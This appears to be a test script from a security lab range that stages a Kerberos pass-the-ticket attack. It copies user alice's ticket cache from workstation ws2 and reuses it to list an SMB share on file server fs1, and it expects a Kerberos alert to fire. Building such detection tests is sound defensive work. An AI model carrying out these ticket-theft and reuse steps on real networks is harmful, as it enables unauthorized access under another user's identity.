# SPDX-License-Identifier: Apache-2.0
# what: pass-the-ticket: a ticket of ws2's user used from ws1
# technique: T1550.003
# from: ws1
# to: fs1
# account: alice
# outcome: success
# must: alert krb
. "$RANGE_HERE/item.sh"
at ws2 sh -c "echo '$USER_PASSWORD' | kinit alice"
cp "$RANGE/hosts/ws2/ccache" "$HOME/stolen"
sleep 1
export KRB5CCNAME="$HOME/stolen"
says 'blocks available' smbclient //fs1.$DOMAIN_DNS/data --use-kerberos=required -N -c ls
